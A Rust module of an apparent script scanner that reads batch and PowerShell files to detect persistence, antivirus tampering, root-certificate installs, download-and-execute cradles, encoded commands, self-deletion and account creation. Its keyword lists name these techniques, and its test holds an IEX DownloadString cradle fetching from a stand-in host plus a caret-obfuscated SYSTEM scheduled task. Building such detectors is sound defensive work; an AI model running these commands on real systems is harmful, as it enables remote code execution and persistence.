//! Batch files and PowerShell, line by line.

use crate::{bytes::shortened, facts::Action, read::shell::Found};

/// Words of PowerShell in the case that the tables have; the language itself does not care.
pub(crate) fn cased(text: &str) -> String {
    const WORDS: [&str; 34] = [
        "[scriptblock]::Create",
        "Add-Type -",
        "Assembly]::Load",
        "New-ItemProperty",
        "Set-ItemProperty",
        "Get-Clipboard",
        "Set-Clipboard",
        "Net.Sockets.TcpClient",
        "SkipCertificateCheck",
        "XMLHTTP",
        "CryptUnprotectData",
        "CreateShortcut(",
        "Net.WebClient",
        "Invoke-WebRequest",
        "Invoke-RestMethod",
        "DownloadString",
        "DownloadFile",
        "Start-BitsTransfer",
        "Start-Process",
        "Invoke-Expression",
        "FromBase64String",
        "Add-MpPreference",
        "Set-MpPreference",
        "New-Service",
        "Register-ScheduledTask",
        "schtasks",
        "Get-Process",
        "Out-File",
        "Set-Content",
        "WriteAllBytes",
        "$env:TEMP",
        "%TEMP%",
        "DisableRealtimeMonitoring",
        "iex ",
    ];
    let lower = text.to_ascii_lowercase();
    let mut cased = text.to_owned();
    for word in WORDS {
        let small = word.to_ascii_lowercase();
        let places: Vec<usize> = lower.match_indices(&small).map(|(at, _)| at).take(200).collect();
        for at in places {
            cased.replace_range(at..at + word.len(), word);
        }
    }
    // A caret only hides words in a batch file.
    if cased.contains('^') { cased.replace('^', "") } else { cased }
}

/// What a batch file does.
pub(crate) fn batch(text: &str) -> Vec<Found> {
    lines(text, &with_variables(&text.replace('^', "")))
}

/// Puts in what `set NAME=VALUE` says.
fn with_variables(text: &str) -> String {
    let mut text = text.to_owned();
    let set: Vec<(String, String)> = text
        .lines()
        .filter_map(|line| {
            let line = line.trim();
            let rest =
                line.get(..4).filter(|start| start.eq_ignore_ascii_case("set ")).map(|_| line[4..].trim())?;
            let (name, value) = rest.trim_matches('"').split_once('=')?;
            let fits =
                !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_');
            (fits && value.len() < 200).then(|| (format!("%{name}%"), value.to_owned()))
        })
        .take(50)
        .collect();
    for (name, value) in set {
        if text.len() < 1 << 20 {
            text = text.replace(&name, &value);
        }
    }
    text
}

/// What a PowerShell script does.
pub(crate) fn powershell(text: &str) -> Vec<Found> {
    lines(text, &text.replace('`', ""))
}

fn lines(_original: &str, text: &str) -> Vec<Found> {
    let mut found = Vec::new();
    for (number, line) in text.lines().enumerate().take(50_000) {
        let trimmed = line.trim();
        let lower = trimmed.to_ascii_lowercase();
        if lower.starts_with("rem ") || lower.starts_with("::") || lower.starts_with('#') {
            continue;
        }
        let number = crate::bytes::count32(number + 1);
        found.extend(of(trimmed, &lower).into_iter().map(|action| (number, action)));
    }
    found
}

fn of(line: &str, lower: &str) -> Vec<Action> {
    let has = |words: &[&str]| words.iter().any(|word| lower.contains(word));
    let what = || shortened(line, 300);
    let mut actions = Vec::new();
    if has(&["schtasks"]) && has(&["/create"]) || has(&["register-scheduledtask", "new-scheduledtask"]) {
        actions.push(Action::Register {
            what: "scheduled task".into(),
            name: what(),
            program: String::new(),
        });
    }
    if has(&["sc create", "sc.exe create", "new-service", "nssm install"]) {
        actions.push(Action::Register { what: "service".into(), name: what(), program: String::new() });
    }
    if has(&["currentversion\\run", "\\startup\\", "shell:startup"]) {
        actions.push(Action::Registry { key: what(), value: String::new() });
    }
    if has(&[
        "add-mppreference",
        "set-mppreference",
        "disablerealtimemonitoring",
        "disableantispyware",
        "unblock-file",
        "advfirewall set",
        "smartscreenenabled",
        "enablelua",
        "amsiutils",
    ]) {
        actions.push(Action::Unprotect { what: what() });
    }
    if has(&["certutil"]) && has(&["-addstore"]) || has(&["import-certificate"]) && has(&["root"]) {
        actions.push(Action::TrustCertificate { what: what() });
    }
    let fetches = has(&[
        "invoke-webrequest",
        "invoke-restmethod",
        "downloadstring",
        "downloadfile",
        "start-bitstransfer",
        "bitsadmin",
        "curl ",
        "wget ",
        "urlcache",
        "iwr ",
        "irm ",
    ]);
    if fetches && (lower.contains("://") || has(&["downloadstring", "downloadfile"])) {
        let from = lower.find("http").and_then(|at| line.get(at..)).map(|rest| {
            rest.chars()
                .take_while(|letter| !letter.is_whitespace() && !matches!(letter, '\'' | '"' | ')'))
                .collect()
        });
        let odd = has(&["urlcache", "bitsadmin"]) && has(&[".exe", ".dll", ".ps1", ".msi", ".scr"]);
        let runs = odd || has(&["iex", "invoke-expression", "| powershell", "|powershell"]);
        actions.push(Action::Download { from: from.unwrap_or_default(), to: String::new(), runs });
    }
    // Tools of Windows that run what stands at an address.
    if has(&["mshta", "regsvr32", "rundll32", "msiexec"]) && has(&["http://", "https://"]) {
        let from = lower.find("http").and_then(|at| line.get(at..)).unwrap_or_default();
        let from = from.split([' ', '"', '\'']).next().unwrap_or_default().to_owned();
        actions.push(Action::Download { from, to: String::new(), runs: true });
    }
    if has(&["-encodedcommand", " -enc ", "frombase64string"])
        && has(&["iex", "invoke-expression", "powershell", "assembly]::load"])
    {
        actions.push(Action::Evaluate { what: what() });
    }
    if has(&["attrib +h", "attrib  +h", "+h +s", "attributes = 'hidden"]) {
        actions.push(Action::Hide { path: what() });
    }
    if has(&["start-process", "start /b", "start \"\"", "wscript ", "mshta ", "rundll32", "regsvr32"]) {
        let background = has(&["-windowstyle hidden", "/b", "wscript", "hidden"]);
        actions.push(Action::Run { program: what(), arguments: Vec::new(), background });
    }
    if has(&["del \"%~f0\"", "del %0", "remove-item $pscommandpath", "del /f /q \"%~f0\""]) {
        actions.push(Action::Delete { path: "%0".into() });
    }
    if has(&["net user", "new-localuser", "net localgroup"]) && has(&["/add", "new-localuser"]) {
        actions.push(Action::Account { what: what() });
    }
    actions
}

/// Does Windows start what stands in this value of the registry, by its key and name, when somebody logs in?
pub(crate) fn runs_at_login(key: &str) -> bool {
    let key = key.to_lowercase();
    key.contains("currentversion\\run")
        || key.contains("\\startup\\")
        || key.contains("winlogon")
        || key.contains("image file execution options")
        // What is started once for everybody at their next log-in.
        || key.contains("active setup\\installed components") && key.ends_with("stubpath")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lines_are_read_without_case_and_carets() {
        let found = batch(
            "@echo off\nrem schtasks /create\nSCHT^ASKS /Create /SC ONLOGON /RU SYSTEM /TN a /TR b.exe\n",
        );
        assert_eq!(found.len(), 1);
        assert!(matches!(&found[0], (3, Action::Register { what, .. }) if what == "scheduled task"));
        let found = powershell("IEX (New-Object Net.WebClient).DownloadString('https://a.example/x')");
        assert_eq!(
            found,
            [(1, Action::Download { from: "https://a.example/x".into(), to: String::new(), runs: true })]
        );
    }
}
